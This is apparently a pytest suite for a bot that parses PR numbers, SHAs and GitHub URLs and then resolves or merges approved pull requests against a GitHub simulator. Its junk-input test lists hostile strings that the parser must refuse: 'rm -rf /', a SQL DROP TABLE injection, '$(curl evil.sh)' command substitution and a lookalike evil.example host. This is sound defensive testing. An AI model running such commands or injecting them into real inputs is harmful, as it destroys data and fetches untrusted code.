"""Parsing what the user asked for, and resolving it against the GitHub simulator."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from simulators.github import GitHubSimulator
from workers.errors import MergeRefused, TargetError
from workers.github import GitHubClient
from workers.target import (
    OpenPullRequest,
    ResolvedTarget,
    Targeting,
    TargetSpec,
    look_up_target,
    parse_target,
    repository_words,
    resolve_target,
    usage,
)

REPO = "GaloyMoney/lana-bank"
SHA = "0123456789abcdef0123456789abcdef01234567"

# -- parse_target ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (None, TargetSpec(kind="latest")),
        ("", TargetSpec(kind="latest")),
        ("   \t ", TargetSpec(kind="latest")),
        ("1234", TargetSpec(kind="pr", pr_number=1234)),
        ("#1234", TargetSpec(kind="pr", pr_number=1234)),
        ("  #77 ", TargetSpec(kind="pr", pr_number=77)),
        # All digits is always a PR, even when it would also be a 7+ digit hex string.
        ("1234567", TargetSpec(kind="pr", pr_number=1234567)),
        (f"https://github.com/{REPO}/pull/1234", TargetSpec(kind="pr", pr_number=1234)),
        (f"https://github.com/{REPO}/pull/1234/files", TargetSpec(kind="pr", pr_number=1234)),
        (
            f"https://github.com/{REPO}/pull/1234/files?diff=split#r55",
            TargetSpec(kind="pr", pr_number=1234),
        ),
        ("https://github.com/galoymoney/LANA-BANK/pull/9", TargetSpec(kind="pr", pr_number=9)),
        ("http://www.github.com/GaloyMoney/lana-bank/pull/9", TargetSpec(kind="pr", pr_number=9)),
        (f"<https://github.com/{REPO}/pull/1234>", TargetSpec(kind="pr", pr_number=1234)),
        (
            f"<https://github.com/{REPO}/pull/1234|{REPO}#1234>",
            TargetSpec(kind="pr", pr_number=1234),
        ),
        (
            f"<https://github.com/{REPO}/pull/1234/files?a=1&amp;b=2|files &amp; more>",
            TargetSpec(kind="pr", pr_number=1234),
        ),
        (f"&lt;https://github.com/{REPO}/pull/5&gt;", TargetSpec(kind="pr", pr_number=5)),
        (f"https://github.com/{REPO}/commit/{SHA}", TargetSpec(kind="sha", sha=SHA)),
        (f"github.com/{REPO}/pull/8", TargetSpec(kind="pr", pr_number=8)),
        ("abc1234", TargetSpec(kind="sha", sha="abc1234")),
        ("ABC1234DEF", TargetSpec(kind="sha", sha="abc1234def")),
        (SHA, TargetSpec(kind="sha", sha=SHA)),
        (SHA.upper(), TargetSpec(kind="sha", sha=SHA)),
        ("\u200babc1234\u200b", TargetSpec(kind="sha", sha="abc1234")),  # zero-width spaces
    ],
)
def test_parse_good_forms(text: str | None, expected: TargetSpec) -> None:
    # Every spec names its repository, in the configured spelling.
    assert parse_target(text, REPO) == replace(expected, repository=REPO)


WIDGETS = "acme/widgets"
SERVED = (REPO, WIDGETS)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("1234", TargetSpec(kind="pr", pr_number=1234, repository=REPO)),
        ("acme/widgets#12", TargetSpec(kind="pr", pr_number=12, repository=WIDGETS)),
        ("ACME/Widgets#12", TargetSpec(kind="pr", pr_number=12, repository=WIDGETS)),
        ("acme/widgets@ABC1234", TargetSpec(kind="sha", sha="abc1234", repository=WIDGETS)),
        ("acme/widgets", TargetSpec(kind="latest", repository=WIDGETS)),
        (f"{REPO}#7", TargetSpec(kind="pr", pr_number=7, repository=REPO)),
        (
            "https://github.com/acme/widgets/pull/5",
            TargetSpec(kind="pr", pr_number=5, repository=WIDGETS),
        ),
        (
            f"<https://github.com/acme/widgets/commit/{SHA}|{SHA[:7]}>",
            TargetSpec(kind="sha", sha=SHA, repository=WIDGETS),
        ),
    ],
)
def test_a_target_may_name_any_served_repository(text: str, expected: TargetSpec) -> None:
    assert parse_target(text, REPO, served=SERVED) == expected
    # A channel whose repository is widgets means widgets by a bare number.
    assert parse_target("3", WIDGETS, served=SERVED).repository == WIDGETS


@pytest.mark.parametrize(
    "text",
    [
        "other/repo#1",
        "other/repo@abc1234",
        "other/repo",
        "https://github.com/other/repo/pull/1",
        "acme/widgets@1234567",  # all digits: not a SHA
        "acme/widgets#0",
    ],
)
def test_a_repository_not_served_is_refused_with_the_served_ones(text: str) -> None:
    with pytest.raises(TargetError) as caught:
        parse_target(text, REPO, served=SERVED)
    message = str(caught.value)
    assert (WIDGETS in message and REPO in message) or "PR number" in message or "SHA" in message
    # Without `served`, only the default repository may be named.
    with pytest.raises(TargetError):
        parse_target("acme/widgets#1", REPO)


def test_usage_lists_the_served_repositories_only_when_there_are_several() -> None:
    assert "owner/repo#1234" not in Targeting(REPO).usage()
    text = Targeting(WIDGETS, served=SERVED).usage()
    assert (
        "owner/repo#1234" in text and f"`{REPO}`" in text and "This one is `acme/widgets`" in text
    )


def test_parse_enterprise_host() -> None:
    url = f"https://ghe.example.com/{REPO}/pull/3"
    assert parse_target(url, REPO, github_host="ghe.example.com") == TargetSpec(
        kind="pr", pr_number=3, repository=REPO
    )
    with pytest.raises(TargetError, match=r"not on ghe\.example\.com"):
        parse_target(f"https://github.com/{REPO}/pull/3", REPO, github_host="ghe.example.com")


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/GaloyMoney/blink/pull/1234",
        "https://github.com/someone/lana-bank/pull/1234",
        "<https://github.com/other/repo/pull/1|other/repo#1>",
    ],
)
def test_parse_other_repository(url: str) -> None:
    with pytest.raises(TargetError) as caught:
        parse_target(url, REPO)
    assert REPO in str(caught.value)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (f"https://gitlab.com/{REPO}/pull/1", "not on github.com"),
        (f"https://github.com.evil.example/{REPO}/pull/1", "not on github.com"),
        (f"ftp://github.com/{REPO}/pull/1", "not on github.com"),
        (f"https://[github.com/{REPO}/pull/1", "can't read"),
        (f"https://user@evil.example/{REPO}/pull/1", "not on github.com"),
        (f"https://github.com/{REPO}/issues/1", "not a pull request"),
        (f"https://github.com/{REPO}/pull/abc", "not a pull request"),
        ("abc123", "can't read"),  # 6 hex chars: too short for a SHA
        ("abcdefg", "can't read"),  # not hex
        ("g" * 40, "can't read"),
        ("a" * 41, "can't read"),
        ("0", "not a valid PR number"),
        ("#0", "not a valid PR number"),
        ("99999999999", "not a valid PR number"),
        ("##12", "can't read"),
        ("-12", "can't read"),
        ("main", "can't read"),
        ("pr 1234", "one target"),
        ("1234 5678", "one target"),
        ("abc1234\nrm -rf /", "one target"),
        ("'; DROP TABLE monitors; --", "one target"),
        ("$(curl evil.sh)", "one target"),
        ("$(curl${IFS}evil.sh)", "can't read"),
        ("<!channel>", "can't read"),
        ("\uff11\uff12\uff13\uff14", "can't read"),  # fullwidth digits are not a PR number
        ("٣٤٥", "can't read"),  # nor are Arabic-Indic ones
        ("🚀", "can't read"),
        ("x" * 201, "too long"),
        ("1" * 500, "too long"),
    ],
)
def test_parse_junk(text: str, reason: str) -> None:
    with pytest.raises(TargetError, match=reason) as caught:
        parse_target(text, REPO)
    message = str(caught.value)
    assert len(message) < 160
    assert "<!channel>" not in message
    assert "\n" not in message


def test_parse_error_echo_is_short_and_clean() -> None:
    junk = "\x1b[31m" + "z" * 150
    with pytest.raises(TargetError) as caught:
        parse_target(junk, REPO)
    message = str(caught.value)
    assert "\x1b" not in message
    assert "z" * 41 not in message
    assert "z" * 20 in message


def test_usage_lists_accepted_forms() -> None:
    for form in ("1234", "#1234", "/pull/1234", "SHA", "latest commit on main"):
        assert form in usage(REPO)
    assert f"https://ghe.example.com/{REPO}/pull/1234" in usage(REPO, "ghe.example.com")


# -- resolve_target against the simulator --------------------------------------------------


@pytest.fixture
def sim() -> Iterator[GitHubSimulator]:
    simulator = GitHubSimulator(repository=REPO, token="ghs_test")
    simulator.start()
    yield simulator
    simulator.stop()


@pytest.fixture
def github(sim: GitHubSimulator) -> Iterator[GitHubClient]:
    with GitHubClient(repository=REPO, token="ghs_test", api_url=sim.url) as client:
        yield client


def resolve(github: GitHubClient, text: str | None, *, allow_merge: bool = True) -> ResolvedTarget:
    naps: list[float] = []
    return resolve_target(
        parse_target(text, REPO), github, allow_merge=allow_merge, sleep=naps.append
    )


def test_merged_pr_follows_its_merge_commit(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.add_pull_request(10, "Ledger fix", ["core/ledger.rs"], state="MERGED")
    merge_sha = sim.pull_requests[10].merge_commit_oid
    sim.add_commit("Later work", ["docs/x.md"])  # main moved on since
    target = resolve(github, "#10")
    assert target.sha == merge_sha
    assert target.headline == "Ledger fix (#10)"
    assert target.files == ("core/ledger.rs",)
    assert target.pr_number == 10
    assert target.pr_title == "Ledger fix"
    assert target.pr_url == f"https://github.com/{REPO}/pull/10"
    assert target.merged_now is False
    assert sim.write_requests == 0


def test_approved_open_pr_is_merged_once_with_expected_head(
    sim: GitHubSimulator, github: GitHubClient
) -> None:
    sim.add_pull_request(11, "Add deposits", ["core/deposit.rs", "lib/x.rs"])
    head = sim.pull_requests[11].head_oid
    old_main = sim.main_head
    target = resolve(github, f"https://github.com/{REPO}/pull/11")
    assert sim.merges == [(11, target.sha)]
    assert sim.write_requests == 1
    assert target.merged_now is True
    assert target.sha == sim.main_head
    assert target.files == ("core/deposit.rs", "lib/x.rs")
    assert sim.commits[target.sha].parents == [old_main]
    assert sim.pull_requests[11].state == "MERGED"
    assert sim.merge_attempts == [(11, head)]
    assert target.headline == "Add deposits (#11)"
    # Asking again follows the merge commit without merging anything.
    again = resolve(github, "11")
    assert (again.sha, again.merged_now) == (target.sha, False)
    assert len(sim.merges) == 1


@pytest.mark.parametrize("decision", ["REVIEW_REQUIRED", "CHANGES_REQUESTED"])
def test_unapproved_pr_is_never_merged(
    sim: GitHubSimulator, github: GitHubClient, decision: str
) -> None:
    sim.add_pull_request(
        12, "Risky", ["a.rs"], review_decision=decision, latest_reviews=[{"state": "APPROVED"}]
    )
    with pytest.raises(MergeRefused) as caught:
        resolve(github, "#12")
    assert caught.value.reason == "unapproved"
    assert str(caught.value) == (
        f"PR #12 is not approved (review decision: {decision}); it was not merged."
    )
    assert sim.merges == []
    assert sim.write_requests == 0


def test_null_review_decision_with_an_approving_review_merges(
    sim: GitHubSimulator, github: GitHubClient
) -> None:
    sim.add_pull_request(
        13,
        "No protection",
        ["a.rs"],
        review_decision=None,
        latest_reviews=[{"state": "COMMENTED"}, {"state": "APPROVED"}],
    )
    target = resolve(github, "13")
    assert sim.merges == [(13, target.sha)]


@pytest.mark.parametrize(
    "reviews",
    [[], [{"state": "COMMENTED"}], [{"state": "APPROVED"}, {"state": "CHANGES_REQUESTED"}]],
)
def test_null_review_decision_without_approval_is_refused(
    sim: GitHubSimulator, github: GitHubClient, reviews: list[dict[str, str]]
) -> None:
    sim.add_pull_request(14, "Unreviewed", ["a.rs"], review_decision=None, latest_reviews=reviews)
    with pytest.raises(MergeRefused) as caught:
        resolve(github, "14")
    assert caught.value.reason == "unapproved"
    assert sim.merges == []
    assert sim.write_requests == 0


def test_merging_not_allowed(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.add_pull_request(15, "Approved", ["a.rs"])
    with pytest.raises(MergeRefused) as caught:
        resolve(github, "15", allow_merge=False)
    assert caught.value.reason == "not_allowed"
    assert sim.write_requests == 0


def test_draft_is_refused(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.add_pull_request(16, "WIP", ["a.rs"], draft=True)
    with pytest.raises(MergeRefused) as caught:
        resolve(github, "16")
    assert caught.value.reason == "draft"
    assert sim.write_requests == 0


def test_closed_pr(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.add_pull_request(17, "Abandoned", ["a.rs"], state="CLOSED")
    with pytest.raises(TargetError, match="PR #17 is closed without being merged"):
        resolve(github, "17")
    assert sim.write_requests == 0


def test_unknown_pr(github: GitHubClient) -> None:
    with pytest.raises(TargetError, match=f"PR #999 not found in {REPO}"):
        resolve(github, "999")


@pytest.mark.parametrize(
    ("mergeable", "status", "reason"),
    [
        ("CONFLICTING", "DIRTY", "conflicts"),
        ("MERGEABLE", "DIRTY", "conflicts"),
        ("MERGEABLE", "BEHIND", "behind"),
        ("MERGEABLE", "BLOCKED", "blocked"),
    ],
)
def test_unmergeable_states_are_refused(
    sim: GitHubSimulator, github: GitHubClient, mergeable: str, status: str, reason: str
) -> None:
    sim.add_pull_request(18, "Stuck", ["a.rs"], mergeable=mergeable, merge_state_status=status)
    with pytest.raises(MergeRefused) as caught:
        resolve(github, "18")
    assert caught.value.reason == reason
    assert sim.write_requests == 0


def test_head_moved_between_check_and_merge(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.add_pull_request(19, "Racy", ["a.rs"])
    checked_head = sim.pull_requests[19].head_oid
    sim.before_merge = lambda number: sim.push_to_pr(number, files=["sneaky.rs"])
    with pytest.raises(MergeRefused) as caught:
        resolve(github, "19")
    assert caught.value.reason == "head_moved"
    assert sim.merge_attempts == [(19, checked_head)]
    assert sim.merges == []
    assert sim.pull_requests[19].state == "OPEN"
    assert sim.pull_requests[19].head_oid != checked_head


def test_merge_queue_enqueues_and_waits(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.add_pull_request(20, "Queued", ["a.rs"], merge_queue=True)
    naps: list[float] = []
    target = resolve_target(parse_target("20", REPO), github, poll=2.0, sleep=naps.append)
    assert sim.merges == [(20, target.sha)]
    assert target.merged_now is True
    assert target.headline == "Queued (#20)"
    assert naps == [2.0, 2.0]  # merged on the 2nd poll after enqueueing
    assert sim.write_requests == 1  # the enqueue; no direct merge attempt


def test_pr_already_in_queue_is_waited_for(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.add_pull_request(21, "Someone queued it", ["a.rs"], merge_queue=True, in_merge_queue=True)
    target = resolve(github, "21")
    assert sim.merges == [(21, target.sha)]
    assert target.merged_now is False
    assert sim.write_requests == 0


def test_merge_queue_timeout(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.queue_polls_before_merge = 10**6  # the queue never gets to it
    sim.add_pull_request(22, "Slow queue", ["a.rs"], merge_queue=True)
    with pytest.raises(TargetError, match="still in the merge queue"):
        resolve_target(
            parse_target("22", REPO),
            github,
            merge_queue_timeout=10,
            poll=5,
            sleep=lambda seconds: None,
        )


def test_short_sha_resolves_to_full(sim: GitHubSimulator, github: GitHubClient) -> None:
    sha = sim.add_commit("Bump deps\n\nLong body", ["Cargo.lock"])
    sim.add_commit("Later", ["b.rs"])
    target = resolve(github, sha[:9].upper())
    assert target.sha == sha
    assert target.headline == "Bump deps"
    assert target.files == ("Cargo.lock",)
    assert target.pr_number is None
    assert target.merged_now is False


def test_unknown_sha(github: GitHubClient) -> None:
    with pytest.raises(TargetError, match=f"No commit deadbee in {REPO}"):
        resolve(github, "deadbee")


def test_latest_is_main_head(sim: GitHubSimulator, github: GitHubClient) -> None:
    sha = sim.add_commit("Newest", ["x.rs", "y.rs"])
    target = resolve(github, None)
    assert target.sha == sha == sim.main_head
    assert target.files == ("x.rs", "y.rs")
    assert target.pr_number is None


def look(github: GitHubClient, text: str | None) -> ResolvedTarget | OpenPullRequest:
    return look_up_target(parse_target(text, REPO), github)


def test_look_up_never_merges_an_approved_open_pr(
    sim: GitHubSimulator, github: GitHubClient
) -> None:
    sim.add_pull_request(30, "Approved", ["core/a.rs"])
    found = look(github, "30")
    assert isinstance(found, OpenPullRequest)
    assert (found.number, found.approval) == (30, "approved")
    assert found.head_sha == sim.pull_requests[30].head_oid
    assert sim.merge_attempts == [] and sim.write_requests == 0


def test_look_up_never_waits_for_a_merge_queue(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.add_pull_request(31, "Queued", ["a.rs"], merge_queue=True, in_merge_queue=True)
    found = look(github, "31")
    assert isinstance(found, OpenPullRequest)
    assert sim.merges == [] and sim.write_requests == 0


@pytest.mark.parametrize(
    ("overrides", "words"),
    [
        ({"review_decision": "REVIEW_REQUIRED"}, "review required"),
        ({"review_decision": "CHANGES_REQUESTED"}, "changes requested"),
        ({"review_decision": None}, "no approving review"),
        ({"draft": True}, "draft"),
    ],
)
def test_look_up_says_an_open_pr_review_state(
    sim: GitHubSimulator, github: GitHubClient, overrides: dict[str, object], words: str
) -> None:
    sim.add_pull_request(32, "Open", ["a.rs"], **overrides)  # type: ignore[arg-type]
    found = look(github, "32")
    assert isinstance(found, OpenPullRequest) and found.approval == words


def test_look_up_a_merged_pr_gives_its_merge_commit(
    sim: GitHubSimulator, github: GitHubClient
) -> None:
    sim.add_pull_request(33, "Merged", ["core/b.rs"], state="MERGED")
    found = look(github, "#33")
    assert isinstance(found, ResolvedTarget)
    assert found.sha == sim.pull_requests[33].merge_commit_oid and found.pr_number == 33


def test_look_up_closed_and_unknown(sim: GitHubSimulator, github: GitHubClient) -> None:
    sim.add_pull_request(34, "Closed", ["a.rs"], state="CLOSED")
    with pytest.raises(TargetError, match="closed without being merged"):
        look(github, "34")
    with pytest.raises(TargetError, match="No commit abcdef1"):
        look(github, "abcdef1")
    assert isinstance(look(github, None), ResolvedTarget)


_PIECES = st.sampled_from(
    [*"abc/:#@[]<>|`&;. -_0123456789", "https://", "github.com", "acme/widgets", "\u200b", "\n"]
)


@settings(max_examples=500, deadline=None)
@given(text=st.lists(_PIECES, max_size=30).map("".join))
def test_any_text_is_a_target_a_repository_or_a_target_error(text: str) -> None:
    """What a person types never raises anything but TargetError (said with usage)."""
    assert isinstance(repository_words(text), str)
    try:
        spec = parse_target(text, REPO, served=SERVED)
    except TargetError:
        return
    assert spec.repository in SERVED
